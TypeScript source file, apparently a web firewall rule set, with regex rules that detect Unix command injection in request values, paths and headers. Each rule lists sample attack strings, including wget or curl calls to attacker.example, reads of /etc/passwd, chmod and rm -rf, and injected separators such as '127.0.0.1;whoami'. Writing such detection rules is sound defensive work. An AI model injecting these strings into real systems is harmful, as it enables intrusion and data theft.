import type { Rule } from '../../rule.ts';
import { early, oneLine, parameters, values } from '../words.ts';
import { plainPrograms, unixPrograms } from './programs.ts';

const headers = ['headers', 'user_agent', 'referer'] as const;

/** What ends one command so that another can begin; with quotes, brackets and variables that do not change what begins. */
const separator = String.raw`(?:[;|\r\n]|&{1,2}|\$\(|[<>]\(|\$\{\x60)`;
const lead = String.raw`[\s"'({!@\\\x60]{0,6}(?:\$\w{1,10}=\S{0,40}\s+|(?:sudo|time|nohup|exec|command|env|nice|busybox|builtin|do|then|else|timeout\s+\d+\w?)\s+(?:-\S+\s+){0,2}){0,3}["']?`;
const directory = String.raw`(?:[\w./~*?-]{0,60}/)?`;
/** After a program whose name is a word: an argument as commands have them, or the end of the command. */
const argument = String.raw`["']?(?:<{1,3}\s*[\w/"'$]|>{1,2}\s*[\w/&]|\s+(?:-{1,2}\w|[\w.-]*[/~$*\\]\S|["'<>]|\d+\s*(?:$|[;|&\x60)])|\d+\s+[-+*/]\s+\d|[/~.]\s+-\w|\.{1,2}(?:[;|&)\x60/]|$)|localhost\b|[\w-]+\.(?:php|txt|sh|py|pl|conf|ini|log|gz|zip|tar|jsp|aspx?|xml|ya?ml|json|db|sql|key|pem|bak)\b))`;
/** The end of the command, or one last word: only where the separator stands close before it, as nobody writes it in a sentence. */
const close = String.raw`["']?(?:\s*(?:$|[;|&<>\x60)#])|\s+[\w.-]+\s*(?:[;|&\x60)]|$))`;
/** The name of a program ends here; what may follow is an argument, a quote, a redirection or another separator. */
const done = String.raw`["']?(?:[\s;|&<>\x60)]|$|["'](?:\s|$))`;
/** The same, where the next words are not those of a sentence. */
const notProse = String.raw`["']?(?:\s*(?:$|[<>)\\]\s*\S|\x60)|[;|&]\s*\S|\s+(?:[^\sA-Za-z&|;]|https?:|[A-Za-z]?[\w.@:-]*[/.~$=@:*\\-]\S|\w{1,20}\s+-{1,2}\w))`;
/** A separator with the command directly behind it. */
const touching = String.raw`(?:[;|&]["'({]?|[\r\n]|\$\(|[<>]\()`;

export const unixCommandRules: readonly Rule[] = [
  {
    id: 'command-appended',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Programs of Unix after a separator of commands, near the beginning of a value.',
    in: values,
    screen: 'separator',
    when: [
      {
        regex: `${early}(?:${separator}${lead}${directory}${unixPrograms}${notProse}|[;|&]["']?${directory}${unixPrograms}${close})${oneLine}`,
      },
    ],
    bad: [
      ';wget http://attacker.example/x',
      '127.0.0.1;whoami',
      '1|uname -a',
      'x%0Aid;x=1&&ifconfig',
      '$(curl attacker.example)',
      'a || chmod +x /tmp/x',
      ';"curl" http://a.example',
      '";htop"',
      ';irb<<<1|nc',
      ';gdb -nx -ex \\!whoami',
      'a & nslookup x.attacker.example',
      ';rmt --version',
    ],
    good: [
      'I tried it; curl is better than what I had',
      'AT&T; more of it',
      'R&D | sales',
      'a hero; more than a man',
      'Cut | Paste',
      '`npm` and `git`',
      'Tom & Jerry; bash and crash',
    ],
  },
  {
    id: 'command-appended-word',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Commands whose names are words, after a separator and with arguments as commands have them, near the beginning of a value.',
    in: parameters,
    screen: 'separator',
    when: [
      {
        regex:
          `${early}(?:${separator}${lead}${directory}${plainPrograms}${argument}${oneLine}|` +
          String.raw`[;|&]\s*(?:id|ls|ps|env|pwd|df|du|su|w)\s*(?:$|[;|&#]\s*$))|^\S{0,40}[\r\n]{1,2}[ \t]*(?:id|ls|ps|env|pwd|df|whoami)\s*$|^[^\s;|&<>{}]*` +
          `${touching}${directory}${plainPrograms}${close}`,
      },
    ],
    bad: [
      ';cat /etc/passwd',
      '|id',
      '&& ls -la',
      'x;sleep 5',
      '%0Aping -c 4 a.example',
      '$(cat /x)',
      ';find /etc -name x',
      '|sort /etc/x',
      'a;ls',
      '<(cat /x)',
      ';who',
      ';env --version',
      ';find / -name *.conf',
      'x;expr 1 + 1',
    ],
    good: [
      'fish | chips',
      'a hero; more than',
      'hello; time he came',
      'I push through; if nothing happens',
      'C:\\Users\\x; more',
      'one & two',
      'salt & pepper',
      'Look | who is there',
      'R&D',
    ],
  },
  {
    id: 'command-appended-in-path',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Commands whose names are words, after a separator near the beginning of a segment of the path.',
    in: ['path'],
    screen: 'separator',
    when: [
      {
        regex:
          `^[\\w"'.-]{0,12}(?:[;|\\r\\n]|&&|\\$\\()\\s*${directory}${plainPrograms}${argument}${oneLine}|` +
          String.raw`^["'\s\d]{0,6}(?:[;|\r\n]|&&)[;|&\s]*(?:id|ls|ps|env|pwd|df|set)["'\s;#]{0,3}$`,
      },
    ],
    bad: [
      { target: '/items/%3Bid' },
      { target: '/items/||%20id' },
      { target: '/items/1;cat%20%2Fetc%2Fx' },
      { target: '/items/;ls%20-la' },
    ],
    good: [
      { target: '/q&a/what-is-it' },
      { target: '/q%26a/what' },
      { target: '/blog/who-is-who;more' },
      { target: '/list;id;sort=price' },
      { target: '/app;jsessionid=0A1B' },
      { target: '/news/cat%20%7C%20dog' },
    ],
  },
  {
    id: 'command-alone',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'A command line of Unix as the value itself.',
    in: values,
    screen: 'commandLine',
    when: [
      {
        regex:
          String.raw`^[\s"'({=@]{0,4}(?:(?:sudo|time|nohup|strace|ltrace|exec|nice|setsid|timeout\s+\d+\w?|env|busybox|command)\s+(?:-\S+\s+){0,3}){0,2}(?:[/~.][\w./-]{0,60}/|/?(?:\w{1,12}/){0,2}s?bin/)?` +
          unixPrograms +
          String.raw`["']?(?:(?:\s+-\S+(?:\s+[\w.=:,-]+)?){0,4}?\s+(?:[/~]|\.{1,2}/|[\w.-]+/|\*|[<>]|https?:|ftp:|\d{1,3}\.\d{1,3}\.\d|[0-7]{3,4}\s+\S*[./]\S|[\w-]+\.(?:php|txt|sh|py|pl|conf|ini|log|gz|zip|tar|git|example|com|net|org)\b)|(?:\s+-\S+(?:\s+[\w.=:,-]+)?){1,4}?\s+["'$]|(?:\s+(?:-\w{1,6}|--(?:version|help|list|all)))+\s*(?:$|[;|&<>])|\s*(?:<{1,3}|>{1,2}|&&|\|\|)\s*[\w/"'$]|[;|&]\w)` +
          oneLine,
      },
    ],
    bad: [
      'curl http://attacker.example',
      'uname -a',
      'bash -c "x"',
      'gunzip -c /var/log/x.gz',
      'nmap 198.51.100.7',
      'perf --version',
      'busybox -c "echo hi"',
      'ls -l /x',
      'chmod 777 x.sh; x',
    ],
    good: [
      'curl tutorial for beginners',
      'python dictionary comprehension',
      'tar is a dark brown liquid',
      'nano',
      'Perl - a language',
      'Docker & Kubernetes',
      'git clone and push',
      'mysql or postgres?',
      'The zip on my coat is stuck',
      'ssh keys',
      'ls -la meaning',
      'php $_GET vs $_POST',
      'mysql "you have an error"',
    ],
  },
  {
    id: 'command-alone-word',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'A command whose name is a word, with a path or flags, as the value itself.',
    in: values,
    screen: 'commandLine',
    when: [
      {
        regex:
          String.raw`^[\s"'({=@]{0,4}(?:(?:sudo|time|nohup|strace|exec|nice|env)\s+){0,2}(?:/?(?:usr/)?(?:local/)?s?bin/` +
          plainPrograms +
          String.raw`(?:\s|$)|(?:cat|ls|dir|cp|rm|ln|cd|find|head|tail|less|more|tac|file|touch|mkdir|mount|echo|tee|env|kill|ping6?|id|who|cut|sort|od|strings|tar|zip|source|type|date|exec|eval|ftp|java|make|mail)\s+(?:-{1,2}[a-z][\w-]*\s*(?:$|[;|&<>]|\S*/|-|\d|\S+\.\w)|/(?:etc|proc|sys|root|home|var|usr|opt|tmp|bin|boot|dev|srv|mnt|\w{0,4}[?*\[])|~/|\.{1,2}/|\x60|<|>|\*(?:\.|$))|ls(?:\s+[\w.]+){1,3}\s*$|ls\s*$|cat\s+[\w-]+\.(?:php|txt|conf|ini|env|json|ya?ml|xml|log|sh|py|key|pem)\s*$|rm\s+-[rf]|(?:bash|sh|zsh|ksh)\s+-c)`,
      },
    ],
    bad: [
      'cat /etc/x',
      'ls -la',
      'ls foo bar',
      'rm -rf x',
      'find /home -name x',
      'ping -c 4 a.example',
      '/bin/cat x',
      'bin/id',
      'cat config.php',
      'cd ../x',
    ],
    good: [
      'cat and dog',
      'time is of the essence',
      'find a doctor',
      'more - or less',
      'who is he?',
      'sort by price',
      'date',
      'mail me at a@b.example',
    ],
  },
  {
    id: 'command-name-alone',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Names of programs that tell about the server as the whole value.',
    in: ['arguments', 'cookies'],
    screen: 'commandLine',
    when: [
      {
        regex: String.raw`^[\s"']{0,3}(?:whoami(?:\s+/\w+)?|ifconfig|ipconfig(?:\s*/all)?|netstat(?:\s+-\w+)?|printenv|uname|visudo|vipw|lastlog|systeminfo|tasklist|net\s+users?|hostname\s+-\w|/?(?:usr/)?(?:local/)?s?bin/(?:(?:ba|z|k|c|da)?sh|cat|id|ls|nc|ncat|netcat|wget|curl|whoami|uname|ps|rm|cp|mv|chmod|echo|env|ping|nslookup|dig|awk|sed|find|xargs|tee|tail|head|ansible|cscli|chef\w*|telnet|ssh|busybox)|(?:strace|ltrace|nohup|setsid|xargs)\s+[\w./-]+|python\d\.\d+\s+\w+)[\s"']{0,3}$`,
      },
    ],
    bad: ['whoami', 'ifconfig', 'bin/ansible', 'python3.10 cmd', 'net user', '/bin/id'],
    good: ['hostname', 'id', 'chef', 'who am I', 'network', 'ansible or chef', 'chef de cuisine'],
  },
  {
    id: 'command-administration',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Programs that administer many servers at once.',
    in: values,
    screen: 'commandLine',
    when: [
      {
        regex: String.raw`^(?:[^\n]{0,40}[;|&])?[\s"']{0,3}(?:(?:ansible-\w+|chef-\w+)(?:$|["']?\s+[\w./-])|(?:aa-(?:disable|status|exec)|cscli|ansible|chef)["']?\s+(?:all|alerts|report|decisions|bouncers|\S+-\S+)\b)`,
      },
    ],
    bad: ['ansible-console', 'chef-run all recipie.rb', '"cscli" alerts list', 'time; ansible all -m ping'],
    good: ['ansible or chef', 'chef de cuisine'],
  },
  {
    id: 'command-in-text',
    family: 'command',
    severity: 'warning',
    paranoia: 1,
    stops: 'Programs that fetch or run something, after a separator of commands anywhere in a line.',
    in: [...values, ...headers],
    screen: 'danger',
    when: [
      {
        regex: String.raw`[;|&]\s{0,4}(?:sudo\s+)?(?:/?(?:usr/)?bin/)?(?:wget|curl|nc|ncat|lwp-download|fetch|tftp|perl|python\d?|php|ruby|bash|sh|zsh|ksh|chmod|cat|rm|id|uname|whoami)\s+(?:-\w|https?://|/(?:etc|tmp|bin|var|usr|root|proc)|\+x|[0-7]{3}\s)`,
      },
    ],
    bad: ['my favourite words of all are these; wget http://attacker.example/x', { headers: { 'user-agent': ';chmod +x evil.php' } }],
    good: ['first do this and that; then we curl it', 'a | b & c'],
  },
  {
    id: 'command-in-header',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Commands after a separator at the beginning of a header.',
    in: headers,
    screen: 'separator',
    when: [
      {
        regex:
          String.raw`^["'\d]{0,4}(?:[;|]{1,2}|&&|\$\(|\x60)` +
          lead +
          directory +
          `(?:${unixPrograms}${done}|${plainPrograms}(?:${argument}|${close}))|^["'\\d]{0,4}&\\s*${directory}${unixPrograms}${done}`,
      },
    ],
    bad: [
      { headers: { referer: ';env' } },
      { headers: { 'user-agent': ';set' } },
      { headers: { 'x-a': '| wget http://a.example' } },
      { headers: { 'x-a': '|| id' } },
      { headers: { 'x-a': '1|nslookup a.example' } },
      { headers: { 'user-agent': '& whoami' } },
      { headers: { 'user-agent': ';`cat<<< ifconfig`' } },
    ],
    good: [
      { headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:1.0)' } },
      { headers: { accept: '*/*;q=0.8' } },
      { headers: { 'x-title': '&amp; who' } },
    ],
  },
  {
    id: 'command-header-line',
    family: 'command',
    severity: 'critical',
    paranoia: 2,
    stops: 'Command lines in User-Agent and Referer.',
    in: ['user_agent', 'referer'],
    screen: 'commandLine',
    when: [
      {
        regex: String.raw`^["']?(?:\w{1,10}=)?(?:(?:time|nohup|sudo|exec)\s+(?:[/.][\w./-]{0,40}/)?${unixPrograms}|(?:[/.][\w./-]{0,40}/)?(?:${unixPrograms}|cat|ls|rm|id|find|cp)\s+(?:-|/|~|["'$]))|^["']?(?:\w{1,10}=)?(?:ansible-\w+|chef-\w+|cscli\s)|^\w{1,8}=\w+\s*(?:&&|;)\s*\$\w`,
      },
    ],
    bad: [{ headers: { 'user-agent': 'cat /etc/passwd' } }, { headers: { referer: '/bin/bash -c "x"' } }],
    good: [{ headers: { 'user-agent': 'curl/8.0' } }, { headers: { 'user-agent': 'Wget' } }],
  },
  {
    id: 'command-appended-anywhere',
    family: 'command',
    severity: 'critical',
    paranoia: 2,
    stops: 'Programs of Unix after a separator of commands anywhere in a value.',
    in: [...values, ...headers],
    screen: 'separated',
    when: [{ regex: separator + lead + directory + `(?:${unixPrograms}${notProse}|${plainPrograms}${argument})` }],
    bad: ['there are many words before it and then ;wget http://attacker.example/x'],
    good: ['a hero; more than', 'Tom & Jerry'],
  },
  {
    id: 'command-prose-like',
    family: 'command',
    severity: 'critical',
    paranoia: 2,
    stops: 'Programs of Unix at the beginning of a value or after a separator, with any word behind them.',
    in: values,
    screen: 'commandLine',
    when: [
      {
        regex: String.raw`^[\s"'({=@]{0,4}(?:(?:sudo|time|nohup|exec|flock|env)\s+(?:-\S+\s+)?\S*\s*)?(?:bash|sh|curl|wget|python[\d.]*|perl|ping|nc|telnet|pipx?|rc|env|kill|flock|cpulimit|ansible-\w+|chef(?:-\w+)?|cscli|ifconfig|whoami|ssh|scp|docker|kubectl|nslookup|dig)(?:\s+\S|$)|^["']\w{1,3}["']\s+/\w`,
      },
    ],
    bad: [
      'ping 127.0.0.1',
      'pip install something',
      'time curl attacker.example',
      'flock -u / whoami',
      'ansible-console',
      "'ll' /var/www/",
    ],
    good: ['pipaaaaaa', 'shell', 'environment', 'comment'],
  },
];
